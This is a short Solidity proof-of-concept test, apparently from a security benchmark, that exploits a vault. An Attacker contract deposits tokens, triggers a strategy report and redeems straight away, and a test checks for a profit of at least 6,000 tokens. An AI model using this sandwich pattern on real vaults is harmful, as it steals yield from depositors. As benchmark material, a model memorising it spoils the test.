// SPDX-License-Identifier: GPL-2.0-or-later
pragma solidity 0.8.30;

// assay-canary-8c5098a9-c61a-4b31-8860-b5736bf60939
import "../Base.sol";

contract Attacker {
    function run(IERC20 usd, IVault vault, IStrategy strategy) external {
        uint256 assets = usd.balanceOf(address(this));
        usd.approve(address(vault), assets);
        uint256 shares = vault.deposit(assets, address(this));
        vault.report(strategy);
        vault.redeem(shares, address(this), address(this));
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        usd.mint(address(other), 1_000_000e6);
    }

    function exploit() public {
        other.run(usd, ridge, hill);
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 1_006_000e6, "no gain");
    }

    function target() public view override returns (address) {
        return address(ridge);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
